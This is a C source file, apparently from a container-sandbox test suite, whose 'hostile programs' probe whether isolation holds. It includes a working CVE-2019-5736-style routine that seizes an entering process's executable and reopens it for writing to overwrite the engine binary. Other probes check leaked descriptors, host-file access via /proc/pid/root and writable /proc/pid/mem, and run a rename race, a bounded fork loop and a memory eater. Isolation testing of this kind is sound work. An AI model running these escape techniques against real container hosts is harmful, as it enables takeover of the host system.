/* Hostile programs that take time: they watch what enters their container, exchange paths, multiply, and eat. */
#include "hostile.h"
#include <dirent.h>
#include <signal.h>
#include <stdbool.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/wait.h>

static int own_program(const char *program) {
    return !strcmp(program, "/knock") || !strcmp(program, "/bin/busybox");
}

/* Descriptors of a process that lead to something else than a pipe, a socket or a device. */
static void look_at_descriptors(int pid) {
    char path[64], target[256];
    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    DIR *directory = opendir(path);
    struct dirent *entry;
    while (directory && (entry = readdir(directory))) {
        ssize_t length = readlinkat(dirfd(directory), entry->d_name, target, sizeof(target) - 1);
        target[length < 0 ? 0 : length] = 0;
        if (target[0] == '/' && strncmp(target, "/dev/", 5)) {
            printf("leak fd %s %s\n", entry->d_name, target);
        }
    }
    if (directory) {
        closedir(directory);
    }
}

/* The way of CVE-2019-5736: holds the program of a process that has entered, and writes to it once it runs no more. */
static void overwrite(int pid, const char *path) {
    char again[64];
    int held = open(path, O_RDONLY | O_CLOEXEC);
    if (held < 0) {
        printf("exe %s\n", strerrorname_np(errno));
        return;
    }
    snprintf(again, sizeof(again), "/proc/self/fd/%d", held);
    long fd = -ETXTBSY;
    kill(pid, SIGKILL);
    for (int i = 0; fd == -ETXTBSY && i < 500; i++) {
        fd = CALL(openat, AT_FDCWD, again, O_WRONLY);
        usleep(100);
    }
    printf("held %s\n", fd >= 0 ? "open" : strerrorname_np((int)-fd));
    printf("mode %s\n", fchmod(held, 0777) ? strerrorname_np(errno) : "open");
    close(held);
}

/*
 * Who has the program of somebody else is on the way from the engine into the container, and shows nothing; or was made
 * to execute the engine's program once more, as one of the container's own.
 */
static void inspect(int pid) {
    char path[64], name[256];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    ssize_t length = readlink(path, name, sizeof(name) - 1);
    name[length < 0 ? 0 : length] = 0;
    if (length > 0 && own_program(name)) {
        return;
    }
    if (length < 0 && errno == ENOENT) {
        return;
    }
    if (length > 0) {
        printf("executed %d %s\n", pid, name);
        overwrite(pid, path);
        return;
    }
    printf("caught %d %s\n", pid, strerrorname_np(errno));
    look_at_descriptors(pid);
    overwrite(pid, path);
    snprintf(path, sizeof(path), "/proc/%d/root%s", pid, fact("HOST_FILE"));
    printf("root %s\n", access(path, R_OK) ? strerrorname_np(errno) : "open");
    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
    long fd = CALL(openat, AT_FDCWD, path, O_RDWR);
    printf("mem %s\n", fd >= 0 ? "open" : strerrorname_np((int)-fd));
}

/* Stops a process, and returns when it stands still or is gone; false where it may not be stopped. */
static bool stop(int pid) {
    char path[64], line[512];
    if (kill(pid, SIGSTOP)) {
        return false;
    }
    snprintf(path, sizeof(path), "/proc/%d/stat", pid);
    for (int i = 0; i < 1000; i++) {
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t length = fd < 0 ? 0 : read(fd, line, sizeof(line) - 1);
        close(fd);
        line[length < 0 ? 0 : length] = 0;
        char *state = strrchr(line, ')');
        if (!state || strchr("TZX", state[2])) {
            return true;
        }
        usleep(10);
    }
    return true;
}

static bool is_on_its_way(int pid) {
    char path[64], name[256];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    return readlink(path, name, sizeof(name)) < 0 && errno != ENOENT;
}

/* Lets a process go on in small steps until it executes something, and looks at that before it can do more. */
static void follow(int pid) {
    bool was_caught = is_on_its_way(pid);
    for (int step = 0; step < 2000 && is_on_its_way(pid); step++) {
        kill(pid, SIGCONT);
        usleep(step % 50);
        stop(pid);
    }
    if (was_caught && !is_on_its_way(pid)) {
        inspect(pid);
    }
}

/* Stops each process that enters, looks at it from all sides, and lets it go; ends when /tmp/stop is there. */
int watch(void) {
    static char seen[1 << 22];
    printf("watching\n");
    while (access("/tmp/stop", F_OK)) {
        DIR *processes = opendir("/proc");
        struct dirent *entry;
        while (processes && (entry = readdir(processes))) {
            int pid = atoi(entry->d_name);
            if (pid > 0 && pid < (int)sizeof(seen) && pid != getpid() && !seen[pid]) {
                bool stopped = stop(pid);
                inspect(pid);
                seen[pid] = 1;
                if (stopped) {
                    follow(pid);
                    kill(pid, SIGCONT);
                }
            }
        }
        closedir(processes);
    }
    printf("end\n");
    return 0;
}

/* Exchanges two paths, so that either is always there, until /data/stop is. */
int swap(const char *one, const char *other) {
    long exchanges = 0;
    printf("swapping\n");
    while (access("/data/stop", F_OK)) {
        long error = CALL(renameat2, AT_FDCWD, one, AT_FDCWD, other, 2);
        if (error < 0) {
            printf("swap %s after %ld\n", strerrorname_np((int)-error), exchanges);
            return 1;
        }
        exchanges++;
    }
    printf("exchanged %ld\n", exchanges);
    return 0;
}

/* As many children as the kernel lets it have, up to 100. */
int multiply(void) {
    int children = 0;
    int refusal = 0;
    while (children < 100 && !refusal) {
        pid_t child = fork();
        if (child == 0) {
            pause();
        }
        refusal = child < 0 ? errno : 0;
        children += child > 0;
    }
    printf("children %d %s\n", children, refusal ? strerrorname_np(refusal) : "open");
    signal(SIGTERM, SIG_IGN);
    kill(0, SIGTERM);
    while (wait(NULL) > 0) {
    }
    return 0;
}

/* 64 MB that are used, in a child. */
int eat(void) {
    pid_t child = fork();
    if (child == 0) {
        size_t size = 64 << 20;
        char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        memset(memory, 1, size);
        _exit(0);
    }
    int status = 0;
    waitpid(child, &status, 0);
    printf("eaten %s\n", WIFSIGNALED(status) ? sigabbrev_np(WTERMSIG(status)) : "open");
    return 0;
}
